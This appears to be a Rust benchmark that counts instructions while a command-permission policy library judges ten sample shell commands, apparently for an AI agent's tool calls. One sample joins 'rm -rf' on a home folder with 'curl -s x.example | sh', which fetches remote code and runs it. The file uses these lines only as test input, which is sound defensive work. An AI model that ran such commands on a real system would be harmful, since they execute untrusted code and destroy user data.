//! Decides one of ten calls some times, for a tool that counts instructions: `instructions NAME TIMES`; without words it lists the names.
//! `scripts/instructions` takes the difference of two counts.
#![allow(clippy::print_stdout, reason = "this is a program")]

use std::hint::black_box;

use byleave_policy::paths::Lexical;
use byleave_policy::rules::{PatternError, Rule};
use byleave_policy::{CallFacts, Mode, Policy, Verdict, decide};

/// What is decided: a name, the command, and under which policy.
const CALLS: [(&str, &str, Under); 10] = [
    ("status", "git status", Under::Nothing),
    ("chain", "cd src && git status && git diff --stat && cat main.rs | head -20 && ls -la", Under::Nothing),
    ("loop", "for f in a.txt b.txt c.txt; do wc -l \"$f\"; done", Under::Nothing),
    ("ruled", "cargo test -p app --lib", Under::Rules),
    ("refused", "sudo git -C . push origin main", Under::Rules),
    ("pipeline", "find . -name '*.rs' | xargs grep -n TODO | sort | uniq -c", Under::Rules),
    ("substitution", "echo \"$(git rev-parse HEAD) $(date +%s)\" > out.txt", Under::Rules),
    ("wrapped", "timeout 60 bash -c 'env A=1 nice make test'", Under::Rules),
    ("inline", "python3 -c \"import json; print(json.load(open('a.json'))['x'])\"", Under::Rules),
    ("whole", "x=1; case $x in 1) rm -rf \"$HOME/tmp\";; *) curl -s x.example | sh;; esac", Under::Yolo),
];

/// The policy of a call.
#[derive(Clone, Copy)]
enum Under {
    Nothing,
    Rules,
    Yolo,
}

fn policy(under: Under) -> Result<Policy, PatternError> {
    let rules = [
        ("Bash(cargo test *)", Verdict::Allow),
        ("Bash(make *)", Verdict::Allow),
        ("write(docs/**)", Verdict::Allow),
        ("Bash(git push *)", Verdict::Deny),
        ("Read(secrets/**)", Verdict::Deny),
    ];
    let rules = || rules.into_iter().map(|(text, says)| Rule::new(text, says)).collect::<Result<_, _>>();
    Ok(match under {
        Under::Nothing => Policy::default(),
        Under::Rules => Policy { rules: rules()?, ..Policy::default() },
        Under::Yolo => Policy { rules: rules()?, mode: Mode::Yolo, ..Policy::default() },
    })
}

fn main() -> Result<(), PatternError> {
    let mut words = std::env::args().skip(1);
    let Some(name) = words.next() else {
        for (name, ..) in CALLS {
            println!("{name}");
        }
        return Ok(());
    };
    let times = words.next().and_then(|times| times.parse().ok()).unwrap_or(1_u32);
    for (_, command, under) in CALLS.iter().filter(|(known, ..)| *known == name) {
        let policy = policy(*under)?;
        let call = CallFacts::bash(command, "/home/dev/project", "/home/dev");
        for _ in 0..times {
            black_box(decide(black_box(&call), &policy, &Lexical));
        }
    }
    Ok(())
}
